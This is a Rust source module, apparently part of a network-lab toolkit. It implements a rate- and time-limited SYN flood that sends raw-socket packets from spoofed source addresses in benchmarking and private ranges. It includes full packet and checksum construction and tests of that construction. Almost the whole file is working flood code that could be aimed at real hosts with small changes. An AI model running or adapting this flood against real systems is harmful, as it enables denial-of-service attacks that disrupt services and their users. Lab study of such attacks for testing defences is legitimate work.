//! A SYN flood, bounded in rate and time, from addresses that the lab's router sends nowhere.

use std::{
    net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr},
    time::{Duration, Instant},
};

use anyhow::{Context as _, Result};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};

/// From one burst to the next.
const BURST: Duration = Duration::from_millis(10);
/// `IPPROTO_RAW`: the packet brings its own header.
const RAW: i32 = 255;

/// Sends `rate` SYNs a second to `target`, each from another address and port, for `seconds`, or until it is killed. Prints a line once it
/// has begun.
pub(super) fn run(target: IpAddr, port: u16, rate: u16, seconds: u16) -> Result<()> {
    let domain = if target.is_ipv4() { Domain::IPV4 } else { Domain::IPV6 };
    let socket =
        Socket::new(domain, Type::RAW, Some(Protocol::from(RAW))).context("a raw socket needs root")?;
    let to = SockAddr::from(SocketAddr::new(target, 0));
    let end = Instant::now() + Duration::from_secs(seconds.into());
    let per_burst = u32::from(rate) / (1000 / BURST.as_millis() as u32);
    let mut n = 0;
    println!("flooding");
    while Instant::now() < end {
        let next = Instant::now() + BURST;
        for _ in 0..per_burst {
            // A full queue loses some: they are only a flood.
            _ = socket.send_to(&packet(target, port, n), &to);
            n += 1;
        }
        std::thread::sleep(next.saturating_duration_since(Instant::now()));
    }
    Ok(())
}

/// The `n`th SYN: header, TCP header.
fn packet(target: IpAddr, port: u16, n: u32) -> Vec<u8> {
    // Neighbours differ in many bits, as real clients do.
    let mixed = n.wrapping_mul(0x9E37_79B1);
    let source_port = 1024 + (mixed >> 20) as u16;
    let mut tcp = [source_port.to_be_bytes(), port.to_be_bytes()].concat();
    tcp.extend(mixed.to_be_bytes());
    tcp.extend([0, 0, 0, 0, 5 << 4, 2, 0xff, 0xff, 0, 0, 0, 0]);
    let length = tcp.len() as u16;
    match target {
        IpAddr::V4(target) => {
            // 198.18.0.0/15
            let source = Ipv4Addr::from(0xc612_0000 | n & 0x1_ffff);
            let addresses = [source.octets(), target.octets()].concat();
            seal(&mut tcp, &addresses);
            let mut packet = vec![0x45, 0];
            packet.extend((20 + length).to_be_bytes());
            packet.extend([0, 0, 0x40, 0, 64, 6, 0, 0]);
            packet.extend(addresses);
            let sum = checksum(&[&packet]);
            packet[10..12].copy_from_slice(&sum);
            packet.extend(tcp);
            packet
        }
        IpAddr::V6(target) => {
            let source = Ipv6Addr::from(0xfd66_u128 << 112 | u128::from(n));
            let addresses = [source.octets(), target.octets()].concat();
            seal(&mut tcp, &addresses);
            let mut packet = vec![0x60, 0, 0, 0];
            packet.extend(length.to_be_bytes());
            packet.extend([6, 64]);
            packet.extend(addresses);
            packet.extend(tcp);
            packet
        }
    }
}

/// Writes the checksum of a TCP header without data.
fn seal(tcp: &mut [u8], addresses: &[u8]) {
    let length = (tcp.len() as u16).to_be_bytes();
    let sum = checksum(&[addresses, &[0, 6], &length, tcp]);
    tcp[16..18].copy_from_slice(&sum);
}

/// The Internet checksum (RFC 1071) of parts of even length.
fn checksum(parts: &[&[u8]]) -> [u8; 2] {
    let words = parts.iter().flat_map(|part| part.chunks_exact(2));
    let mut sum: u32 = words.map(|w| u32::from(u16::from_be_bytes([w[0], w[1]]))).sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    (!(sum as u16)).to_be_bytes()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn checksums_cover_what_a_host_will_check() {
        let packet = packet("10.9.0.100".parse().unwrap(), 80, 7);
        assert_eq!(packet.len(), 40);
        assert_eq!(checksum(&[&packet[..20]]), [0, 0]);
        assert_eq!(checksum(&[&packet[12..20], &[0, 6, 0, 20], &packet[20..]]), [0, 0]);
        let packet = super::packet("fd09::100".parse().unwrap(), 80, 7);
        assert_eq!(packet.len(), 60);
        assert_eq!(checksum(&[&packet[8..40], &[0, 6, 0, 20], &packet[40..]]), [0, 0]);
    }

    #[test]
    fn sources_are_those_that_lead_nowhere_and_differ() {
        let target = "10.9.0.100".parse().unwrap();
        let source = |n| packet(target, 80, n)[12..16].to_vec();
        assert!((0..1000).all(|n| source(n)[0] == 198 && source(n)[1] & 0xfe == 18));
        assert_ne!(source(1), source(2));
    }
}
